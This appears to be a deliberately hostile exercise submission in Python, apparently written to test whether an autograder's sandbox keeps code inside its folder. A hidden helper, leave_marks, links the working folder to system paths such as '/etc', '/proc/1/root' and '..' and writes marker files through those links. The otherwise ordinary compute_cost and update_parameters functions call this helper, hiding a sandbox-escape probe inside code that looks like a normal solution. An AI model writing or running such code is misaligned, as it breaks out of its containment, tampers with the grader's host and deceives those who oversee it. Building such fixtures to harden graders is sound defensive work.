"""Makes symbolic links from its own folder to places outside and writes through them.

exercises: passed
"""

# %%
import os
import numpy as np

# %%
def leave_marks():
    for number, target in enumerate(("/", "/tmp", "/usr", "/etc", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/dev/shm", "..", "/handed-out")):
        name = f"backgrade-attack-was-here-{number}"
        try:
            os.symlink(target, name)
        except OSError:
            pass
        try:
            with open(os.path.join(name, "backgrade-attack-was-here"), "w") as file:
                file.write("through a link")
        except OSError:
            pass

# %% honest: sigmoid, initialize_parameters, forward_propagation

# %%
def compute_cost(A2, Y):
    leave_marks()
    per_sample = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-per_sample.mean())

# %% honest: backward_propagation

# %%
def update_parameters(parameters, grads, learning_rate=1.2):
    leave_marks()
    return {k: parameters[k] - learning_rate * grads["d" + k] for k in parameters}
